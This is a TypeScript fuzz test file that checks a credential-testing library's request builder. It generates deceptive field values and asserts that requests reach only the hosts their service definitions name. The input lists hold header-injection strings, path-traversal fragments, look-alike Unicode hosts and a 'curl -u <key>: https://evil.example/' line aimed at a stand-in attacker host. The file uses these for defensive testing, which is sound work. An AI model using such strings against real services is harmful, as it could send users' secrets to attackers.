// Doors: whatever stands in the fields, a request goes to a host that the definition's file names. For every definition, on
// generated inputs with something deceptive in every field. Host, user information, port and the shape of the path are read
// by the platform's own URL, and compared with what the file says, read here once more.
//
// Where something that is typed can stand in an address, in its host, its path or its query, 100,000 inputs are tried. Where
// nothing can (all that varies are words of the file), 3,000 are: 79 services of 106, of which 100,000 each took nine
// minutes of a processor and never got further than the values of headers.
//
// KEYFIT_DOORS: how many inputs for each service. KEYFIT_SEED and KEYFIT_FIRST replay a run from a number on.

import assert from "node:assert/strict";
import { test } from "node:test";
import { load } from "../../web/dist/index.js";
import type { LiveRequest } from "../../web/src/live/live.ts";
import { random, readDefinition, SERVICE_IDS, textVectors, vectorsOf } from "./support.ts";

const SEED = Number(process.env.KEYFIT_SEED ?? 20261130);
const FIRST = Number(process.env.KEYFIT_FIRST ?? 0);
const COUNT = Number(process.env.KEYFIT_DOORS ?? 100_000);
const FIXED_SHARE = 0.03;

interface Step {
  method?: string;
  url: string;
  headers?: Record<string, string>;
  basic?: string[];
  content_type?: string;
  secret_in_url?: boolean;
}

interface Field {
  id: string;
  type: string;
  hosts?: string[];
  kinds?: { words?: Record<string, string> }[];
  choices?: { value: string; words?: Record<string, string> }[];
}

interface Definition {
  fields: Field[];
  live_test: { steps: Step[] };
}

// --- What the file says ----------------------------------------------------------------------------------

const escaped = (text: string): string => text.replace(/[.*+?^$()|[\]{}\\/]/g, "\\$&");
const anyOf = (texts: readonly string[]): string => `(?:${[...new Set(texts)].map(escaped).join("|")})`;

// As DNS has them, and underscores, which the names of some accounts have.
const NAME = "(?!xn--)[a-z0-9_](?:[a-z0-9_-]{0,61}[a-z0-9_])?";
const LABEL = "(?!xn--)[a-z0-9](?:[a-z0-9-]{0,61}[a-z0-9])?";

/** What may stand in a host where a template has this in braces. */
function hostPart(definition: Definition, name: string): string {
  const [id, part] = name.split(".");
  const field = definition.fields.find((one) => one.id === id) as Field;
  if (field.type === "account") return part === undefined ? `${NAME}\\.${anyOf(field.hosts ?? [])}` : NAME;
  const words = [...(field.kinds ?? []), ...(field.choices ?? [])].flatMap(({ words = {} }) => words[part ?? ""] ?? []);
  return words.length > 0 ? anyOf(words) : LABEL;
}

const PLACES = /\{([a-z_]+)(?:\.([a-z_]+))?\}/g;

/** What a template says, with something in the place of what it has in braces. */
const fill = (template: string, part: (name: string) => string): string =>
  template
    .split(/\{([a-z_]+(?:\.[a-z_]+)?)\}/)
    .map((text, i) => (i % 2 === 0 ? escaped(text) : part(text)))
    .join("");

interface Door {
  host: RegExp;
  path: RegExp;
  query: RegExp;
}

function doorOf(definition: Definition, { url }: Step): Door {
  const [, host = "", path = "", query = ""] = /^https:\/\/([^/?]+)([^?]*)(.*)$/.exec(url) ?? assert.fail(url);
  const whole = (text: string): RegExp => new RegExp(`^${text}$`);
  return {
    host: whole(fill(host, (name) => hostPart(definition, name))),
    path: whole(fill(path, () => "(?!\\.{1,2}(?:/|$))[^/?#\\\\\\s]+")),
    query: whole(fill(query, () => "[^?&#\\s]+")),
  };
}

// --- What stands in the fields ----------------------------------------------------------------------------

const EVIL = [
  "evil.example",
  "evil.example/",
  "127.0.0.1",
  "localhost",
  "[::1]",
  "xn--80ak6aa92e.com",
  "evil%2eexample",
];
const MARKS = [
  ...[
    "/",
    "\\",
    "@",
    ":",
    "#",
    "?",
    "&",
    "=",
    "%",
    "%00",
    "%2f",
    "%2e%2e",
    "%0d%0a",
    "..",
    "../",
    "/../../",
    "//",
    ";",
    ",",
  ],
  ...[
    ":443",
    ":8443",
    ":X@",
    "\r\n",
    "\r\nHost: evil.example",
    "\n",
    "\t",
    "\0",
    " ",
    "\u00a0",
    "\u200b",
    "\u202e",
    "\ud800",
  ],
  ...[
    "\uff0e",
    "\u3002",
    "\uff0f",
    "\uff20",
    "\uff1a",
    "\u0430",
    "\u0455",
    "\u0131",
    "\u00ad",
    "\u{1f600}",
    "{account}",
  ],
  ...["{", "}", '"', "'", "<", ">", "`", "|", "^", "~", "+", "*", "[", "]", "&amp;", "]]>", '","x":"', "-", "_", "."],
];
/** Wrapped round a value; much of it is taken off again. */
const WRAPPED: ((text: string) => string)[] = [
  (text) => ` ${text}\n`,
  (text) => `"${text}"`,
  (text) => `<${text}>`,
  (text) => `Authorization: Bearer ${text}`,
  (text) => `curl -u ${text}: https://evil.example/`,
  (text) => `https://evil.example/?key=${text}`,
  (text) => `${text} @evil.example`,
  (text) => `key: ${text}`,
  (text) => `\u200b${text}`,
  (text) => text.replaceAll(/[A-Za-z]/g, (letter) => String.fromCharCode(letter.charCodeAt(0) + 0xfee0)),
];
/** Behind an address; much of it is dropped. */
const BEHIND = [
  "/",
  "/evil.example",
  "/@evil.example",
  "/..//evil.example",
  "?evil.example",
  "#evil.example",
  "/a?b=c#d",
];

type Pick = (below: number) => number;
const oneOf = <T>(pick: Pick, list: readonly T[]): T => list[pick(list.length)] as T;

/** The values that the vectors have for each field, usable ones and others. */
function valuesOf(id: string, { fields }: Definition): Map<string, { good: string[]; all: string[] }> {
  const values = new Map(fields.map((field) => [field.id, { good: [] as string[], all: [""] }]));
  const add = (field: string, typed: unknown, verdict: { value?: string; account_url?: string } | undefined): void => {
    const found = values.get(field);
    if (found === undefined || typeof typed !== "string" || typed.length > 600) return;
    found.all.push(typed);
    const good = verdict?.account_url ?? verdict?.value;
    if (good !== undefined && good.length <= 600) found.good.push(good);
  };
  if (id === "freshbooks-classic") {
    for (const field of ["account", "secret"] as const)
      for (const { input, expect } of textVectors(field)) add(field, input, expect as never);
  }
  // FreshBooks Classic has its vectors in files of their own.
  const own = id === "freshbooks-classic" ? { vectors: [], examples: [] } : vectorsOf(id);
  for (const { line, expect } of own.vectors) {
    for (const { id: field } of fields) add(field, line[field], expect[field] as never);
  }
  for (const example of own.examples) {
    for (const [field, value] of Object.entries(example.fields)) values.get(field)?.good.push(value);
  }
  for (const { id: field, choices = [] } of fields) values.get(field)?.good.push(...choices.map(({ value }) => value));
  for (const [field, { good }] of values) assert.ok(good.length > 0, `${id}: no good value for ${field}`);
  return values;
}

/** A value with something in it that should open no door. */
function deceptive(pick: Pick, { type }: Field, { good, all }: { good: string[]; all: string[] }): string {
  const value = oneOf(pick, good);
  const at = pick(value.length + 1);
  switch (pick(12)) {
    case 0:
      return oneOf(pick, all);
    case 1:
      return value.slice(0, at) + oneOf(pick, MARKS) + value.slice(at);
    case 2:
      return value.slice(0, at) + oneOf(pick, EVIL) + value.slice(at);
    case 3:
      return oneOf(pick, EVIL) + oneOf(pick, MARKS) + value;
    case 4:
      return value + oneOf(pick, MARKS) + oneOf(pick, EVIL);
    case 5:
      // Another ending, where a part of the host may stand.
      return (
        value.replace(/[^-._]*$/, "") +
        oneOf(pick, [...EVIL, "evil", "EVIL", "-", "a.b", "us6/", "xn--a", "x".repeat(64)])
      );
    case 6:
      return value.slice(0, at) + value.slice(at).toUpperCase();
    case 7:
    case 8:
      return type === "account" ? value.replace("https", "http") + oneOf(pick, BEHIND) : oneOf(pick, WRAPPED)(value);
    default:
      return oneOf(pick, WRAPPED)(value);
  }
}

/** The fields of the input of this number. Some are as they should be, or hardly any would get as far as a request. */
function inputOf(number: number, definition: Definition, values: ReturnType<typeof valuesOf>): Record<string, string> {
  const pick = random(SEED + number);
  // As many as there are fields: the more there are, the rarer is one in which nothing refuses.
  const plain = 1 + 2 * (definition.fields.length - 1);
  return Object.fromEntries(
    definition.fields.map((field) => {
      const known = values.get(field.id) as { good: string[]; all: string[] };
      const isPlain = pick(plain + 1) > 0 && pick(6) > 0;
      return [field.id, isPlain ? oneOf(pick, known.good) : deceptive(pick, field, known)];
    }),
  );
}

// --- What was asked ---------------------------------------------------------------------------------------

const FORBIDDEN = /^(?:cookie|host|origin|referer|content-length|transfer-encoding|connection)$/i;

/** What is wrong with a request, or nothing. */
function findFault(request: LiveRequest, step: Step, door: Door, secrets: readonly string[]): string {
  const { protocol, hostname, port, username, password, pathname, search, hash, href } = new URL(request.url);
  if (href !== request.url && href !== `${request.url}/`) return `the platform reads it as ${href}`;
  if (protocol !== "https:" || port !== "" || username !== "" || password !== "" || hash !== "")
    return "not a plain address";
  if (!door.host.test(hostname)) return `the host ${hostname}`;
  if (!door.path.test(pathname)) return `the path ${pathname}`;
  if (!door.query.test(search)) return `the query ${search}`;
  if (step.secret_in_url !== true && secrets.some((secret) => request.url.includes(secret)))
    return "a secret in the address";
  if (request.method !== (step.method ?? "GET")) return `the method ${request.method}`;
  const names = Object.keys(step.headers ?? {});
  for (const [name, value] of Object.entries(request.headers)) {
    const isKnown = names.includes(name) || name === "Authorization" || name === "Content-Type";
    if (!isKnown || FORBIDDEN.test(name)) return `the header ${name}`;
    if (!/^[\x20-\x7e]*$/.test(value)) return `the value of ${name}`;
  }
  return "";
}

/** The secrets of an input, but for those that stand in another field as well. */
function secretsOf({ fields }: Definition, typed: Readonly<Record<string, string>>): string[] {
  const textsOf = (isSecret: boolean): string[] =>
    fields.flatMap(({ id, type }) => ((type === "secret") === isSecret ? [typed[id] ?? ""] : []));
  // However they are written there.
  const plain = (text: string): string =>
    text
      .normalize("NFKC")
      .toLowerCase()
      .replace(/[^a-z0-9]/g, "");
  const open = textsOf(false).map(plain);
  return textsOf(true).filter((secret) => secret.length >= 12 && !open.some((text) => text.includes(plain(secret))));
}

/** Whether something that is typed stands in the address of a step: a value, or a part of one, and no word of the file. */
function isTyped({ fields }: Definition, { url }: Step): boolean {
  return [...url.matchAll(PLACES)].some(([, id, part]) => {
    const { type, kinds = [] } = fields.find((one) => one.id === id) ?? assert.fail(url);
    return type !== "choice" && !kinds.some(({ words = {} }) => words[part ?? ""] !== undefined);
  });
}

const definitions = new Map(SERVICE_IDS.map((id) => [id, readDefinition(id) as Definition]));
const typed = [...definitions].filter(([, file]) => file.live_test.steps.some((step) => isTyped(file, step)));

test("what is typed stands in some services' addresses", () => {
  const ids = typed.map(([id]) => id);
  assert.ok(ids.length >= 25, `${ids}`);
  for (const id of ["shopify", "mailchimp", "twilio", "telegram-bot", "serpapi"]) assert.ok(ids.includes(id), id);
  for (const id of ["stripe", "datadog", "gocardless"]) assert.ok(!ids.includes(id), id);
});

for (const [id, definition] of definitions) {
  const { steps } = definition.live_test;
  const most = typed.some(([one]) => one === id) ? COUNT : Math.ceil(COUNT * FIXED_SHARE);
  const doors = steps.map((step) => doorOf(definition, step));

  for (const [engine, count] of [
    ["wasm", most],
    ["js", Math.min(most, Math.ceil(COUNT / 100))],
  ] as const) {
    test(`${id}, ${engine}: ${count} inputs, no door but the file's`, async (t) => {
      const core = await load(readDefinition(id), { engine });
      const values = valuesOf(id, definition);
      let asked = 0;
      let changed = 0;
      for (let number = FIRST; number < FIRST + count; ++number) {
        const fields = inputOf(number, definition, values);
        const secrets = secretsOf(definition, fields);
        // One step of each is enough; which, goes round.
        const isAsked = steps.some((_, i) => {
          const at = (number + i) % steps.length;
          const request = core.requestOf(at, fields);
          if (request === null) return false;
          const fault = findFault(request, steps[at] as Step, doors[at] as Door, secrets);
          assert.equal(fault, "", `${number}: ${JSON.stringify(fields)}`);
          return true;
        });
        if (!isAsked) continue;
        asked += 1;
        if (definition.fields.some((field) => !values.get(field.id)?.good.includes(fields[field.id] ?? "")))
          changed += 1;
      }
      t.diagnostic(
        `seed ${SEED} from ${FIRST}: ${asked} of ${count} were asked, ${changed} of them with something deceptive`,
      );
      assert.ok(asked >= count / 2, `${asked} of ${count} yielded a request`);
      assert.ok(changed >= count / 10, `${changed} of ${count} with something deceptive yielded a request`);
    });
  }
}

test("what would be wrong is found to be", () => {
  const mailchimp = readDefinition("mailchimp") as Definition;
  const [step = assert.fail()] = mailchimp.live_test.steps;
  const door = doorOf(mailchimp, step);
  const url = step.url.replace("{secret.dc}", "us6");
  const request = (more: Partial<LiveRequest>): LiveRequest => ({ method: "GET", url, headers: {}, ...more });
  const secret = `${"0123456789abcdef"}${"0123456789abcdef"}-us6`;
  const faultOf = (more: Partial<LiveRequest>): string => findFault(request(more), step, door, [secret]);
  assert.equal(faultOf({}), "");
  for (const host of [
    "evil.example",
    "us6.api.mailchimp.com.evil.example",
    "us6.us6.api.mailchimp.com",
    "-.api.mailchimp.com",
  ]) {
    assert.match(faultOf({ url: url.replace("us6.api.mailchimp.com", host) }), /^the host/, host);
  }
  for (const [from, to, fault] of [
    ["https://", "http://", /^not a plain/],
    ["https://", "https://x@", /^not a plain/],
    ["https://", "https://x:y@", /^not a plain/],
    [".com/", ".com:8443/", /^not a plain/],
    ["us6", "US6", /^the platform/],
    ["/3.0/", "/3.0/../", /^the platform/],
    ["/3.0/", "/3.0/x/", /^the path/],
    ["?fields=", "?x=1&fields=", /^the query/],
    ["?fields=", `?key=${secret}&fields=`, /^the query/],
  ] as const) {
    assert.match(faultOf({ url: url.replace(from, to) }), fault, to);
  }
  assert.match(faultOf({ method: "POST" }), /^the method/);
  assert.match(faultOf({ headers: { Cookie: "x" } }), /^the header/);
  assert.match(faultOf({ headers: { Authorization: "a\r\nb" } }), /^the value/);
});
